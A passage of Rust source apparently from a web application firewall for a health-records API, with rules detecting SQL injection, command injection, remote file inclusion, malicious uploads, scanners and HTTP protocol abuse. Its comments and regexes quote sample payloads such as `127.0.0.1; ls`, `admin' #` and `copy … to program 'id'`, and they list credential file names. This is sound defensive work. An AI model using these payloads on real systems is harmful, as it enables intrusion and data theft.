    // goes into the fragment, as with `?`.
    let fragment_cut = text.last() == Some(&b'#')
        && folded[..folded.len() - 1]
            .rsplit('/')
            .next()
            .is_some_and(|name| name.contains('.'));
    if text.last() != Some(&b'?') && !fragment_cut {
        return None;
    }
    let scheme = ["https", "http", "ftps", "ftp", "file"]
        .into_iter()
        .find(|s| text.starts_with(s.as_bytes()))?;
    let ends_word = text
        .get(scheme.len())
        .is_none_or(|b| !(b.is_ascii_alphanumeric() || *b == b'_'));
    let one_word = !text
        .iter()
        .any(|b| matches!(b, b' ' | b'\t' | b'\n' | b'\x0b' | b'\x0c' | b'\r'));
    (ends_word && one_word).then_some(HIT)
}

/// A URL to include from where a backend fetches URLs (`rfi-110`): a host that is an
/// address, not a name (a dropper's server), or a file-transfer or directory scheme (`ftp://`,
/// `tftp://`, `ldap://`). Internal addresses are `ssrf-100`'s. Like it, not applied to FHIR
/// identifiers (which are URLs, `ftp://` ones too) nor to `Referer`.
fn fetched_url(folded: &str) -> Option<Hit> {
    static ADDRESS: OnceLock<Option<regex::Regex>> = OnceLock::new();
    // Nothing without a scheme's `://`.
    SCHEME_SEPARATOR.find(folded.as_bytes())?;
    let address = ADDRESS
        .get_or_init(|| {
            regex::RegexBuilder::new(
                r"\b(?:https?|ftps?)://(?:(?:\d{1,3}\.){3}\d{1,3}(?:[:/?#]|$)|\[?[0-9a-f]{1,4}:[0-9a-f]{0,4}:[0-9a-f:]*)|\b(?:ftps?|sftp|tftp|ldaps?)://",
            )
            .unicode(false)
            .build()
            .ok()
        })
        .as_ref()?;
    address.is_match(folded).then_some(Hit {
        rule: "rfi-110",
        class: Class::Rfi,
    })
}

/// A vulnerability scanner naming itself in `User-Agent` (`scanner-100`). An operator whose
/// own authorised scans should pass excludes the rule on that header.
pub fn scanner(user_agent: &[u8]) -> Option<Hit> {
    static NAMES: OnceLock<Option<regex::bytes::Regex>> = OnceLock::new();
    let names = NAMES
        .get_or_init(|| {
            regex::bytes::RegexBuilder::new(
                r"\b(?:nikto|sqlmap|nessus|nmap|masscan|zgrab|arachni|nuclei|havij|acunetix|netsparker|w3af|dirbuster|dirb|gobuster|wpscan|openvas|whatweb|wfuzz|ffuf|feroxbuster|commix|xsstrike|skipfish|paros|webinspect|appscan|jaeles|zmeu|morfeus|jorgee|sqlninja|bsqlbf|fimap|interactsh)\b",
            )
            .case_insensitive(true)
            .unicode(false)
            .build()
            .ok()
        })
        .as_ref()?;
    names.is_match(user_agent).then_some(Hit {
        rule: "scanner-100",
        class: Class::Scanner,
    })
}

/// The rules that can fire on a plain value (an identifier's letters, digits, `-` and `_`;
/// [`value`]'s other rules need more): a base64 run hiding a gadget or a function.
pub fn plain_value(raw: &[u8]) -> Option<Hit> {
    // Most plain values (ids, codes, dates, capitalised words) have too few capitals and
    // digits to hold a pattern: `base64_words` counts them first.
    base64_words(raw).or_else(|| java_stream(raw))
}

/// A value that starts as Java serialization's stream in base64 (`AC ED 00 05`: `rO0AB`),
/// as a serialized object sent whole does: `java-110`, which the value rules find in text,
/// on the values they do not read (identifiers, a FHIR `data` field's base64).
fn java_stream(raw: &[u8]) -> Option<Hit> {
    raw.starts_with(b"rO0AB").then_some(Hit {
        rule: "java-110",
        class: Class::Java,
    })
}

/// Request headers that make a backend do what the gateway did not check, or that it cannot
/// inspect through: a method override (`protocol-101`: the gateway authorised another
/// method), WebDAV, partial-content and proxy headers a PHR API has no use for, a compressed
/// body the inspection would read as bytes, Next.js's internal `x-middleware-subrequest`
/// (`protocol-110`), a body in a charset that does not keep ASCII as ASCII (`protocol-120`),
/// or a boundary on a type that is not multipart, and a `Range` of more than five ranges, 63 for a PDF (`protocol-130`, the "Apache killer"); a cookie header with
/// RFC 2109 `$Version` attributes (`protocol-160`).
pub fn header(name: &str, value: &[u8], path: &str) -> Option<Hit> {
    let hit = |rule| {
        Some(Hit {
            rule,
            class: Class::Protocol,
        })
    };
    // Only the value of a named few is read: every request's other headers pass by name.
    // (Borrowed, not copied: a JSON body's `Content-Type` carries a charset on most writes.)
    let text = || String::from_utf8_lossy(value.trim_ascii());
    match name {
        "x-http-method-override" | "x-http-method" | "x-method-override" => hit("protocol-101"),
        "request-range"
        | "lock-token"
        | "if"
        | "proxy"
        | "x-middleware-subrequest"
        | "content-range"
        | "accept-charset" => hit("protocol-110"),
        "content-encoding" if !value.trim_ascii().eq_ignore_ascii_case(b"identity") => {
            hit("protocol-110")
        }
        "content-type" => match MediaType::parse(value) {
            None => hit("protocol-170"),
            // A charset that does not keep ASCII, or a boundary on a type that is not
            // multipart: a parser that trusts it reads other text, or another type, than
            // the gateway did.
            Some(media) if media.charset.is_some_and(|c| !ascii_compatible(c)) => {
                hit("protocol-120")
            }
            Some(media) if media.boundary && !media.multipart => hit("protocol-120"),
            Some(_) => None,
        },
        "range" => {
            // A PDF viewer reads a linearised file in many ranges (CRS 920200's allowance).
            let pdf = path
                .as_bytes()
                .rsplit(|&b| b == b'.')
                .next()
                .is_some_and(|ext| ext.eq_ignore_ascii_case(b"pdf"));
            if byte_ranges(value, if pdf { 62 } else { 5 }) {
                None
            } else {
                hit("protocol-130")
            }
        }
        "sec-fetch-user" | "sec-ch-ua-mobile" | "sec-fetch-site" | "sec-fetch-mode"
            if !browser_value(name, value.trim_ascii()) =>
        {
            hit("protocol-200")
        }
        // RFC 2109's `$Version` attributes: backends parse such a cookie header otherwise.
        "cookie" if value.trim_ascii_start().starts_with(b"$Version") => hit("protocol-160"),
        // An answer asked for in a charset that does not keep ASCII (`text/html;charset=
        // cp1026`, EBCDIC): what the backend writes back slips past filters that read ASCII.
        "accept" if value.contains(&b';') => {
            let value = text();
            let other = value
                .split([',', ';'])
                .filter_map(|p| p.split_once('='))
                .any(|(k, v)| k.trim().eq_ignore_ascii_case("charset") && !ascii_compatible(v));
            if other {
                hit("protocol-120")
            } else {
                None
            }
        }
        // A connection option twice, or `close` with `keep-alive`: each server keeps the one
        // it reads first or last.
        "connection" if value.contains(&b',') => {
            let value = text();
            let options: Vec<&str> = value.split(',').map(str::trim).collect();
            let twice = options
                .iter()
                .enumerate()
                .any(|(i, a)| options[i + 1..].iter().any(|b| a.eq_ignore_ascii_case(b)));
            let has = |o: &str| options.iter().any(|a| a.eq_ignore_ascii_case(o));
            if twice || (has("close") && has("keep-alive")) {
                hit("protocol-180")
            } else {
                None
            }
        }
        // Browsers send about 25 bytes; a long list, or a coding no one registered, is a
        // probe of the backend's parser.
        "accept-encoding" if value.len() > 100 || !registered_codings(value) => hit("protocol-190"),
        "cache-control" if !request_cache_directives(value) => hit("protocol-220"),
        _ => None,
    }
}

/// Whether every coding an `Accept-Encoding` names is in IANA's HTTP Content Coding Registry
/// (or `*`), each with at most a `q` weight. Empty elements are allowed, as RFC 9110 section
/// 5.6.1.2 says a recipient must accept them.
fn registered_codings(value: &[u8]) -> bool {
    const CODINGS: &[&[u8]] = &[
        b"*",
        b"aes128gcm",
        b"br",
        b"compress",
        b"dcb",
        b"dcz",
        b"deflate",
        b"exi",
        b"gzip",
        b"identity",
        b"pack200-gzip",
        b"x-compress",
        b"x-gzip",
        b"zstd",
    ];
    value.split(|&b| b == b',').all(|element| {
        let mut parts = element.split(|&b| b == b';');
        let coding = parts.next().unwrap_or_default().trim_ascii();
        let weight = |p: &[u8]| {
            p.trim_ascii()
                .split_first()
                .is_some_and(|(q, rest)| q.eq_ignore_ascii_case(&b'q') && rest.starts_with(b"="))
        };
        (coding.is_empty() && parts.next().is_none())
            || (CODINGS.iter().any(|c| c.eq_ignore_ascii_case(coding)) && parts.all(weight))
    })
}

/// Whether a request's `Cache-Control` holds only the directives RFC 9111 section 5.2.1
/// defines for requests (`max-age=N`, `max-stale[=N]`, `min-fresh=N`, `no-cache`, `no-store`,
/// `no-transform`, `only-if-cached`), RFC 5861's `stale-if-error=N`, and `must-revalidate`,
/// which HTTP libraries copy into requests from the classic "don't cache" triple. Anything
/// else (`private`, `foo=bar`, `max-age=x`) is a response directive or a probe: each cache
/// between here and the backend reads it its own way (CRS 920510).
fn request_cache_directives(value: &[u8]) -> bool {
    value.split(|&b| b == b',').all(|element| {
        let element = element.trim_ascii();
        let (name, argument) = match memchr::memchr(b'=', element) {
            Some(at) => (&element[..at], Some(&element[at + 1..])),
            None => (element, None),
        };
        let seconds = |a: Option<&[u8]>| {
            a.is_some_and(|a| !a.is_empty() && a.len() <= 10 && a.iter().all(u8::is_ascii_digit))
        };
        let is = |directive: &str| name.eq_ignore_ascii_case(directive.as_bytes());
        element.is_empty()
            || ((is("max-age") || is("min-fresh") || is("stale-if-error")) && seconds(argument))
            || (is("max-stale") && (argument.is_none() || seconds(argument)))
            || (argument.is_none()
                && (is("no-cache")
                    || is("no-store")
                    || is("no-transform")
                    || is("only-if-cached")
                    || is("must-revalidate")))
    })
}

/// Whether a `Range` is what RFC 9110 section 14.1.2 allows a client to send, in at most
/// `most` ranges: `bytes=` and ranges `first-last`, `first-` or `-suffix`. Anything else is
/// read differently by different servers (`1-2` with no unit, `bytes=a-b`); many ranges are
/// the "Apache killer" (CRS 920200, 920201).
fn byte_ranges(value: &[u8], most: usize) -> bool {
    // The unit is case-insensitive (RFC 9110 section 14.1).
    let value = value.trim_ascii();
    let Some((unit, ranges)) = value.split_at_checked(b"bytes=".len()) else {
        return false;
    };
    let well_formed = |range: &[u8]| {
        let range = range.trim_ascii();
        let Some(dash) = memchr::memchr(b'-', range) else {
            return false;
        };
        let (first, last) = (&range[..dash], &range[dash + 1..]);
        let number = |n: &[u8]| n.len() <= 19 && n.iter().all(u8::is_ascii_digit);
        number(first) && number(last) && !(first.is_empty() && last.is_empty())
    };
    let mut ranges = ranges.split(|&b| b == b',');
    unit.eq_ignore_ascii_case(b"bytes=")
        && ranges.clone().count() <= most
        && ranges.all(well_formed)
}

/// Whether a Fetch metadata or client hint header holds a value a browser sends: these are
/// set by the browser alone (a script cannot), so another value is a hand-made request
/// posing as a browser's (CRS 920275).
fn browser_value(name: &str, value: &[u8]) -> bool {
    let allowed: &[&[u8]] = match name {
        "sec-fetch-user" => &[b"?1", b"?0"],
        "sec-ch-ua-mobile" => &[b"?0", b"?1"],
        "sec-fetch-site" => &[b"cross-site", b"same-origin", b"same-site", b"none"],
        "sec-fetch-mode" => &[
            b"cors",
            b"navigate",
            b"no-cors",
            b"same-origin",
            b"websocket",
        ],
        // Not a header this judges.
        _ => return true,
    };
    allowed.contains(&value)
}

/// What the header checks need of a `Content-Type`, read in one pass.
struct MediaType<'a> {
    multipart: bool,
    /// The `charset` parameter, unquoted (`'utf-8'` too); `None` also when it is not text.
    charset: Option<&'a str>,
    boundary: bool,
}

impl<'a> MediaType<'a> {
    /// A `Content-Type` as RFC 9110 writes it — `type/subtype`, then `; name=value`
    /// parameters (a token or a quoted string), each name once — or `None`. A backend that
    /// reads `text/plain; charset="UTF-8"; garbage` or two `charset`s may read another type
    /// or charset than the gateway did.
    fn parse(value: &'a [u8]) -> Option<Self> {
        let tchar = |b: &u8| b.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(b);
        let token = |text: &[u8]| !text.is_empty() && text.iter().all(tchar);
        let mut rest = value.trim_ascii();
        let type_end = rest.iter().position(|&b| b == b';').unwrap_or(rest.len());
        let media_type = rest[..type_end].trim_ascii_end();
        let slash = media_type.iter().position(|&b| b == b'/')?;
        let (kind, subtype) = (&media_type[..slash], &media_type[slash + 1..]);
        if !token(kind) || !token(subtype) {
            return None;
        }
        let mut media = MediaType {
            multipart: kind.eq_ignore_ascii_case(b"multipart"),
            charset: None,
            boundary: false,
        };
        rest = &rest[type_end..];
        // Most JSON writes carry a charset: the names seen are kept without an allocation,
        // and more parameters than a media type has are not one.
        let mut names: [&[u8]; 8] = [&[]; 8];
        let mut count = 0;
        while let Some(after) = rest.strip_prefix(b";") {
            let after = after.trim_ascii_start();
            if after.is_empty() || after[0] == b';' {
                rest = after;
                continue;
            }
            let eq = after.iter().position(|&b| b == b'=')?;
            let name = &after[..eq];
            if !token(name)
                || count == names.len()
                || names[..count].iter().any(|n| n.eq_ignore_ascii_case(name))
            {
                return None;
            }
            names[count] = name;
            count += 1;
            let boundary = name.eq_ignore_ascii_case(b"boundary");
            let value = &after[eq + 1..];
            let used = if value.first() == Some(&b'"') {
                let mut i = 1;
                loop {
                    match value.get(i) {
                        None => return None,
                        Some(b'\\') => i += 2,
                        Some(b'"') => break i + 1,
                        Some(_) => i += 1,
                    }
                }
            } else {
                // A multipart boundary may hold RFC 2046's `()+,/:=?` unquoted, as mail and
                // HTTP clients write it.
                let allowed = |b: &u8| tchar(b) || (boundary && b"()+,/:=?".contains(b));
                let end = value
                    .iter()
                    .position(|b| !allowed(b))
                    .unwrap_or(value.len());
                if end == 0 {
                    return None;
                }
                end
            };
            if name.eq_ignore_ascii_case(b"charset") {
                // Not UTF-8 (a quoted string may hold anything): no decoder's name.
                let quoted = std::str::from_utf8(&value[..used]).unwrap_or("\u{fffd}");
                media.charset = Some(quoted.trim_matches(['"', '\'']));
            }
            media.boundary |= boundary;
            rest = value[used..].trim_ascii_start();
            if !rest.is_empty() && rest[0] != b';' {
                return None;
            }
        }
        rest.is_empty().then_some(media)
    }
}

/// A method override (`_method=DELETE` as Rails, Laravel and Express's method-override read
/// it, `protocol-100`): the backend would run another method than the one the gateway routed
/// and authorised. `GET` and `POST`, and words that are no method, change nothing.
pub fn method_override(name: &str, value: &str, method: Option<&str>) -> Option<Hit> {
    const OVERRIDDEN: &[&str] = &[
        "put",
        "patch",
        "delete",
        "head",
        "options",
        "trace",
        "connect",
        "propfind",
        "proppatch",
        "mkcol",
        "copy",
        "move",
        "lock",
        "unlock",
        "search",
    ];
    if name != "_method" {
        return None;
    }
    let value = value.trim();
    let overrides = match method {
        // In a query the request's method is known: any word of 3 to 10 letters but that
        // method is one a framework would run instead (`GET …&_method=POST` turns a link
        // into a write; CRS 920650).
        Some(method) => {
            (3..=10).contains(&value.len())
                && value.bytes().all(|b| b.is_ascii_alphabetic())
                && !value.eq_ignore_ascii_case(method)
        }
        None => OVERRIDDEN.contains(&value),
    };
    overrides.then_some(Hit {
        rule: "protocol-100",
        class: Class::Protocol,
    })
}

/// Whether a charset keeps ASCII as ASCII for every backend: UTF-8, ASCII, ISO-8859-n and the
/// Windows single-byte code pages. UTF-7 (`+ADw-` is `<`), UTF-16/32, EBCDIC (`ibm037`),
/// ISO-2022 escapes, Shift_JIS and EUC-JP (second bytes `\`, `|`) do not, nor does a name no
/// decoder knows (`garbage`, `UTF-80`).
pub fn ascii_compatible(charset: &str) -> bool {
    let c = charset.trim().trim_matches('"');
    let numbered = |prefix: &str, range: std::ops::RangeInclusive<u32>| {
        c.get(..prefix.len())
            .is_some_and(|p| p.eq_ignore_ascii_case(prefix))
            .then(|| c[prefix.len()..].parse::<u32>().ok())
            .flatten()
            .is_some_and(|n| range.contains(&n))
    };
    ["utf-8", "utf8", "us-ascii", "ascii", "latin1", "latin-1"]
        .iter()
        .any(|name| c.eq_ignore_ascii_case(name))
        || numbered("iso-8859-", 1..=16)
        || numbered("iso8859-", 1..=16)
        || numbered("iso_8859-", 1..=16)
        || numbered("windows-", 1250..=1258)
        || numbered("cp", 1250..=1258)
}

/// Rules over an uploaded file's name (a multipart part's `filename`, an `X-Filename`
/// header).
const FILE_NAME_RULES: &[Rule] = &[
    Rule {
        id: "php-150",
        class: Class::Php,
        // A script PHP would run, its extension padded as servers forgive (`a.php.`,
        // `shell. phtml`, `x.php5`).
        pattern: r"\.\s*(?:php\d*|phpt|phtml|phar|pht|phps|pgif)[\s.]*$",
    },
    Rule {
        id: "java-140",
        class: Class::Java,
        // A JSP page, padded the same way.
        pattern: r"\.\s*jsp[xf]?[\s.]*$",
    },
    Rule {
        id: "php-160",
        class: Class::Php,
        // A PHP session file (`sess_` and its id), uploaded to be included as a session.
        pattern: r"(?:^|[/\\])sess_[a-z0-9,-]{20,}$",
    },
    Rule {
        id: "rce-250",
        class: Class::Rce,
        // A file a server reads its own configuration or credentials from (CRS 932180's
        // restricted uploads): `.htaccess` makes a directory run scripts, `wp-config.php`
        // holds the database password. Trailing spaces and dots are forgiven as servers do.
        pattern: r"(?:^|[/\\])(?:\.htaccess|\.htdigest|\.htpasswd|web\.config|\.user\.ini|php\.ini|\.env|\.boto|\.netrc|\.npmrc|\.pypirc|\.git(?:config|-credentials)|\.bash(?:rc|_profile|_history)|\.profile|authorized_keys|wp-config[a-z0-9._-]*|(?:config|config_[a-z]+|parameters|routing|security|services)\.ya?ml|(?:default\.)?settings(?:\.local)?\.php|local\.xml|mtrr|acpi)[\s.]*$",
    },
];

/// The first rule that fires on an uploaded file's name: a server-side script or a session
/// file. The name is then inspected as a value too.
pub fn file_name(name: &str) -> Option<Hit> {
    first(
        &compiled().file_names,
        FILE_NAME_RULES,
        &name.to_ascii_lowercase(),
    )
}

/// The first rule that fires on a name (query parameter, JSON key, cookie name).
pub fn name(n: &Normalised) -> Option<Hit> {
    first(&compiled().names, NAME_RULES, &n.folded)
}

/// Rules over a whole request path, normalised.
pub fn path(n: &Normalised) -> Option<Hit> {
    first(&compiled().paths, PATH_RULES, &n.folded)
}

fn first(set: &RegexSet, rules: &'static [Rule], text: &str) -> Option<Hit> {
    // Most values match nothing: an early-stopping search says so without the overlapping
    // one that names every rule.
    if !set.is_match(text.as_bytes()) {
        return None;
    }
    let matched = set.matches(text.as_bytes());
    matched.iter().next().map(|i| Hit {
        rule: rules[i].id,
        class: rules[i].class,
    })
}

/// The bytes one of which [`libinjection_sqli`]'s gate needs: [`value_with`] does not ask it
/// about a short value holding none of them.
const SQL_BREAKOUT_BYTES: &[u8] = b"'\"`;=#-/()";

/// libinjection's SQLi fingerprint, on values where SQL can break out of its context: a
/// quote, a statement or expression character, or a comment. Words alone (`1 union select`)
/// are `sqli-110`'s; skipping the rest keeps natural-language text (a note, a display name)
/// off libinjection's word lookup, which is most of inspection's time otherwise.
///
/// Its gate opens only on a value holding one of [`SQL_BREAKOUT_BYTES`] (a test holds it so).
fn libinjection_sqli(decoded: &str) -> bool {
    let bytes = decoded.as_bytes();
    // An `=` that ends the value compares nothing: base64's padding (a FHIR attachment's
    // hundreds of kilobytes, `…LjE=`) is not an expression.
    let unpadded = &bytes[..bytes
        .iter()
        .rposition(|&b| b != b'=')
        .map_or(0, |at| at + 1)];
    let breaks_out = any_byte(unpadded, |b| matches!(b, b'`' | b'='))
        || (memchr::memchr(b'"', bytes).is_some() && !quoted_words(bytes))
        || memchr::memchr_iter(b';', bytes).any(|at| !list_semicolon(bytes, at))
        || (memchr::memchr(b'\'', bytes).is_some() && !lone_apostrophe(bytes))
        || memchr::memchr_iter(b'#', bytes).any(|at| !reference_fragment(bytes, at))
        || memchr::memchr2_iter(b'-', b'/', bytes).any(|at| {
            matches!(
                (bytes[at], bytes.get(at + 1)),
                (b'-', Some(b'-')) | (b'/', Some(b'*'))
            ) && !wildcard_name(bytes, at)
        })
        || (memchr::memchr2(b'(', b')', bytes).is_some()
            && !prose_parentheses(bytes)
            && !prose_parentheticals(bytes));
    if !breaks_out || arithmetic_formula(bytes) {
        return false;
    }
    // A percentage (`HbA1c 5.6% (normal)`, `pain 50% (severe)`, `6.2%（基準値内）`) reads to
    // libinjection as the modulo operator before a parenthesis, which is its fingerprint of
    // an injected expression. A `%` after a digit and before a space, the end, punctuation
    // or a parenthesis holding text that is not ASCII is a unit, not an operator (SQL's
    // `a % b` has a space before it, and `1%(select…)` ASCII after it): read as such, it is
    // left out of what libinjection sees.
    let percent = |at: usize| {
        at > 0
            && bytes[at - 1].is_ascii_digit()
            && match bytes.get(at + 1) {
                None => true,
                Some(b) if b.is_ascii_whitespace() || b",.;:)/".contains(b) => true,
                Some(b'(') => bytes.get(at + 2).is_some_and(|b| !b.is_ascii()),
                Some(_) => false,
            }
    };
    if memchr::memchr_iter(b'%', bytes).any(percent) {
        let without: Vec<u8> = bytes
            .iter()
            .enumerate()
            .filter(|&(at, &b)| b != b'%' || !percent(at))
            .map(|(_, &b)| b)
            .collect();
        return libinjectionrs::detect_sqli(&without).is_injection();
    }
    libinjectionrs::detect_sqli(bytes).is_injection()
}

/// Words SQL reads alone, without an operator or a parenthesis: what neither a formula
/// ([`arithmetic_formula`]) nor a quoted phrase ([`quoted_words`]) may hold.
const SQL_KEYWORDS: [&[u8]; 50] = [
    b"union",
    b"select",
    b"from",
    b"where",
    b"and",
    b"or",
    b"xor",
    b"not",
    b"like",
    b"rlike",
    b"regexp",
    b"is",
    b"in",
    b"between",
    b"having",
    b"order",
    b"group",
    b"by",
    b"limit",
    b"into",
    b"outfile",
    b"dumpfile",
    b"div",
    b"mod",
    b"null",
    b"true",
    b"false",
    b"collate",
    b"escape",
    b"sounds",
    b"procedure",
    b"case",
    b"when",
    b"then",
    b"else",
    b"end",
    b"exists",
    b"all",
    b"any",
    b"some",
    b"distinct",
    b"as",
    b"join",
    b"on",
    b"using",
    b"insert",
    b"update",
    b"delete",
    b"drop",
    b"exec",
];

/// Whether `text` is a formula as clinical notes and calculators write one (`eGFR = 141 *
/// min(Scr/0.9, 1)^-0.411`, `QTc = QT / sqrt(RR)`, `CrCl = (140 - age) * weight / (72 *
/// Scr)`): a name, one `=`, then numbers, names, `+ - * / ^`, commas, brackets and the
/// arithmetic functions. libinjection reads `name = … f(` as an injected expression; a value
/// with no quote, comment, `;`, second comparison, SQL keyword or other function adds no
/// condition, subquery or call to a query it lands in.
fn arithmetic_formula(text: &[u8]) -> bool {
    const FUNCTIONS: [&[u8]; 10] = [
        b"sqrt", b"min", b"max", b"log", b"log10", b"ln", b"exp", b"abs", b"pow", b"round",
    ];
    let Some(equals) = memchr::memchr(b'=', text) else {
        return false;
    };
    let (name, expression) = (&text[..equals], &text[equals + 1..]);
    let keyword = |word: &[u8]| SQL_KEYWORDS.iter().any(|w| word.eq_ignore_ascii_case(w));
    if !name
        .trim_ascii()
        .first()
        .is_some_and(u8::is_ascii_alphabetic)
        || !name
            .iter()
            .all(|&b| b.is_ascii_alphanumeric() || b == b'_' || b == b' ')
        || name.split(|&b| b == b' ').any(keyword)
    {
        return false;
    }
    let mut depth = 0usize;
    let mut at = 0;
    let mut previous = b'=';
    while at < expression.len() {
        let b = expression[at];
        if b.is_ascii_alphabetic() || b == b'_' {
            let end = expression[at..]
                .iter()
                .position(|b| !(b.is_ascii_alphanumeric() || *b == b'_'))
                .map_or(expression.len(), |len| at + len);
            let word = &expression[at..end];
            let called = expression[end..].trim_ascii_start().first() == Some(&b'(');
            if keyword(word) || (called && !FUNCTIONS.iter().any(|f| word.eq_ignore_ascii_case(f)))
            {
                return false;
            }
            at = end;
            previous = b'a';
            continue;
        }
        match b {
            // `--` and `/*` open SQL comments.
            b'-' if previous == b'-' => return false,
            b'*' if previous == b'/' => return false,
            b'0'..=b'9' | b'.' | b' ' | b',' | b'+' | b'-' | b'*' | b'/' | b'^' | b'[' | b']' => {}
            b'(' => depth += 1,
            b')' => match depth.checked_sub(1) {
                Some(d) => depth = d,
                None => return false,
            },
            _ => return false,
        }
        previous = b;
        at += 1;
    }
    depth == 0
}

/// A condition made always true by comparing a thing with itself after `or` or `and`
/// (`sqli-120`): `hi or a=a`, `) or (x = x`, `; or '1'='1'`, `") or (""a""=""a"` — the
/// tautologies libinjection passes when their operands are bare words or doubled quotes.
/// Quotes around either side are not part of what is compared. Prose puts no `=` between
/// one word and itself.
fn same_sides(folded: &str) -> Option<Hit> {
    let text = folded.as_bytes();
    let operand = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'\'' | b'"');
    fn unquoted(side: &[u8]) -> impl Iterator<Item = u8> + '_ {
        side.iter().copied().filter(|b| !matches!(b, b'\'' | b'"'))
    }
    memchr::memchr_iter(b'=', text).find_map(|at| {
        // `==` and `===` compare as `=` does: read from the first `=` of the run.
        if at > 0 && text[at - 1] == b'=' {
            return None;
        }
        let before = text[..at].trim_ascii_end();
        // Operands are short: a long run (base64, a token) compares no condition.
        let left_len = before
            .iter()
            .rev()
            .take(65)
            .take_while(|b| operand(b))
            .count();
        if left_len > 64 {
            return None;
        }
        let (head, left) = before.split_at(before.len() - left_len);
        let after = text[at + 1..].trim_ascii_start();
        let after = after[after.iter().take_while(|&&b| b == b'=').count()..].trim_ascii_start();
        let right = &after[..after.iter().take_while(|b| operand(b)).count()];
        if unquoted(left).next().is_none() || !unquoted(left).eq(unquoted(right)) {
            return None;
        }
        let head = head.trim_ascii_end();
        let head = head.strip_suffix(b"(").unwrap_or(head).trim_ascii_end();
        let joined = [&b"or"[..], b"and", b"xor", b"||", b"&&"]
            .iter()
            .any(|joint| {
                head.strip_suffix(*joint).is_some_and(|rest| {
                    joint[0] == b'|'
                        || joint[0] == b'&'
                        || rest.last().is_none_or(|b| !b.is_ascii_alphanumeric())
                })
            });
        joined.then_some(Hit {
            rule: "sqli-120",
            class: Class::Sqli,
        })
    })
}

/// Whether the `/*` at `at` is a wildcard in a name, not a comment: a word before it and
/// `.` and a letter after (SMART on FHIR's scopes `patient/*.read`, `system/*.rs`; a glob
/// `src/*.rs`). A comment that hides SQL opens anywhere else (`admin'/*`, `1/**/or`,
/// `/*!50000select*/`).
fn wildcard_name(bytes: &[u8], at: usize) -> bool {
    at > 0
        && bytes[at - 1].is_ascii_alphanumeric()
        && bytes.get(at + 2) == Some(&b'.')
        && bytes.get(at + 3).is_some_and(u8::is_ascii_alphabetic)
}

/// Two whole-value shapes libinjection lets through (`sqli-120`), both read from the
/// value's start, so the check costs a few bytes: a login name closed by a quote and then a
/// comment (`admin' #`, `admin"/*`: the password test after it is commented out), and a
/// number joined to a constant truth (`1 or true`, `-1 and false`: a numeric context's
/// condition made always or never true). Prose starts neither way (`Mary's #1`: the quote
/// is followed by a letter; `7" #2 needle`: a measure, no letter before the quote; `1 or 2
/// tablets`: no constant).
fn sql_value_shape(folded: &str) -> Option<Hit> {
    const HIT: Hit = Hit {
        rule: "sqli-120",
        class: Class::Sqli,
    };
    let text = folded.trim_start().as_bytes();
    let name = text
        .iter()
        .take_while(|&&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'@' | b'-'))
        .count();
    // A letter in the name: `7" #2 circular needle` is seven inches. Without a name, an
    // apostrophe then `--` or `/*` (`' -- &password=`); `"#1 clinic"` is prose.
    let named = text[..name].iter().any(u8::is_ascii_alphabetic);
    if let Some(quote @ (b'\'' | b'"')) = text.get(name) {
        let rest = text[name + 1..].trim_ascii_start();
        let comment = rest.starts_with(b"--") || rest.starts_with(b"/*");
        if (named && (comment || rest.starts_with(b"#")))
            || (name == 0 && *quote == b'\'' && comment)
        {
            return Some(HIT);
        }
    }
    let rest = text.strip_prefix(b"-").unwrap_or(text);
    let digits = rest.iter().take_while(|b| b.is_ascii_digit()).count();
    if digits == 0 {
        return None;
    }
    let mut words = std::str::from_utf8(&rest[digits..])
        .ok()?
        .split_ascii_whitespace();
    let joint = words.next()?;
    let constant = words.next()?;
    // The constant ends the condition: the value ends, or a comment or `;` ends the
    // statement (`1 and false alarm` is a note).
    let (constant, after) = constant.split_at(
        constant
            .find(['-', '#', ';', '/'])
            .unwrap_or(constant.len()),
    );
    let ended = match words.next() {
        None => after.is_empty() || ["--", "#", ";", "/*"].iter().any(|c| after.starts_with(c)),
        Some(next) => {
            after.is_empty() && ["--", "#", ";", "/*"].iter().any(|c| next.starts_with(c))
        }
    };
    let always = matches!(joint, "or" | "xor" | "||") && constant == "true";
    let never = matches!(joint, "and" | "&&") && constant == "false";
    (rest[digits..].first().is_some_and(u8::is_ascii_whitespace) && ended && (always || never))
        .then_some(HIT)
}

/// An IPv4 address, then a shell separator and a command (`rce-260`: `127.0.0.1; ls`,
/// `8.8.8.8|id`, `10.0.0.1 && whoami`): the injection into a field a backend hands to
/// `ping` or `nslookup`. The command words' own rules wait for what a shell reads after a
/// word that prose also writes (`; ls` at a note's end is prose's); after an address there
/// is no prose. Read from the value's start: a few bytes for any other value.
fn address_then_command(folded: &str) -> Option<Hit> {
    let text = folded.trim_start().as_bytes();
    let address = text
        .iter()
        .take_while(|b| b.is_ascii_digit() || **b == b'.')
        .count();
    // Four groups of one to three digits (`127.000.000.001` as a resolver reads it), counted
    // without collecting them: many values start with a number.
    let mut octets = 0;
    let dotted_quad = text[..address].split(|b| *b == b'.').all(|octet| {
        octets += 1;
        (1..=3).contains(&octet.len())
    });
    if !dotted_quad || octets != 4 {
        return None;
    }
    let rest = text[address..].trim_ascii_start();
    const SEPARATORS: [&[u8]; 6] = [b"&&", b"||", b";", b"|", b"&", b"\n"];
    let separator = SEPARATORS.iter().find(|s| rest.starts_with(s))?;
    let command = rest[separator.len()..].trim_ascii_start();
    command
        .first()
        .is_some_and(|b| b.is_ascii_alphabetic() || matches!(b, b'/' | b'$' | b'`'))
        .then_some(Hit {
            rule: "rce-260",
            class: Class::Rce,
        })
}

/// A second SQL statement after a `;` (`sqli-130`), in the shapes only SQL writes: the
/// statement's keyword and what must follow it (`select *`, `select 1`, `select … from`,
/// `insert into`, `update x set`, `delete from`, `drop table`, `exec xp_…`, `declare @`,
/// `copy … program`, `attach database`, `set @`, `load data`, a `xp_`/`sp_` procedure).
/// libinjection lets `1;select 1` and `1; copy (select 1) to program 'id'` through; a note's
/// `; select appropriate dose` or `; update family` has none of those shapes.
fn stacked_statement(folded: &str) -> Option<Hit> {
    const HIT: Hit = Hit {
        rule: "sqli-130",
        class: Class::Sqli,
    };
    let text = folded.as_bytes();
    let token = |from: &[u8]| -> (usize, usize) {
        // (start, end) of the next word, after spaces, parentheses and `/* … */` comments.
        let mut at = 0;
        loop {
            while at < from.len() && (from[at].is_ascii_whitespace() || from[at] == b'(') {
                at += 1;
            }
            if from[at..].starts_with(b"/*") {
